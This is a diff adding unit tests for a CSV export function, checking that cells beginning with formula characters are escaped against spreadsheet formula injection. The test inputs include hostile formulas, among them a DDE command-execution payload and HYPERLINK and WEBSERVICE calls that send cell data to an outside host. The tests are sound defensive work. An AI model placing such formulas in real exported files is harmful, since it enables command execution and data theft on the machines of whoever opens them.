@@ -1,6 +1,7 @@
 /**
- * CSV and JSONL export of a run's episodes: RFC 4180 quoting (commas, quotes, CR/LF) as golden cases, one row per
- * episode read back by a small strict CSV parser, and file names and formats of `exportFile`.
+ * CSV and JSONL export of a run's episodes: RFC 4180 quoting (commas, quotes, CR/LF) and formula-injection escaping
+ * (OWASP) as golden cases, one row per episode read back by a small strict CSV parser, and file names and formats of
+ * `exportFile`.
  */
 import initSqlJs from 'sql.js';
 import { describe, expect, it } from 'vitest';
@@ -93,6 +94,43 @@ describe('csvField', () => {
     expect(csvField(1)).toBe('1');
     expect(csvField(true)).toBe('true');
     expect(csvField(false)).toBe('false');
+  });
+});
+
+describe('csvField against formula injection (OWASP CSV Injection)', () => {
+  it.each([
+    ['=1+1', `"'=1+1"`],
+    ['=HYPERLINK("http://x.test/?"&A1, "click")', `"'=HYPERLINK(""http://x.test/?""&A1, ""click"")"`],
+    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
+    ['+SUM(A1:A2)', `"'+SUM(A1:A2)"`],
+    ['-2+3', `"'-2+3"`],
+    ['@SUM(A1)', `"'@SUM(A1)"`],
+    ['\t=1', `"'\t=1"`],
+    ['\r=1', `"'\r=1"`],
+    ['-', `"'-"`],
+    ['-Infinity', `"'-Infinity"`],
+    ['QUERY SELECT 1\n=1+1', '"QUERY SELECT 1\n=1+1"'], // only the first character of a cell makes a formula
+    ['a=b', 'a=b'],
+    [" '=1", " '=1"],
+  ])('%j → %j', (input, expected) => {
+    expect(csvField(input)).toBe(expected);
+  });
+
+  it.each([['-3'], ['+3'], ['-0.05'], ['-.5'], ['1e-7'], ['-1.5E+3']])('leaves the plain number %j alone', (text) => {
+    expect(csvField(text)).toBe(text);
+    expect(csvField(Number(text))).toBe(String(Number(text)));
+  });
+
+  it('escapes a negative infinity written as a number', () => {
+    expect(csvField(-Infinity)).toBe(`"'-Infinity"`);
+  });
+
+  it('reads back as the value behind one quote in the fields of a real row', () => {
+    const rows = parseCsv(toCsv([record({ policy: '=WEBSERVICE("http://x.test")', question: '@risk', episodeReturn: -0.5 })]));
+    const at = (header: string) => rows[1][rows[0].indexOf(header)];
+    expect(at('policy')).toBe(`'=WEBSERVICE("http://x.test")`);
+    expect(at('question')).toBe(`'@risk`);
+    expect(at('return')).toBe('-0.5');
   });
 });
 
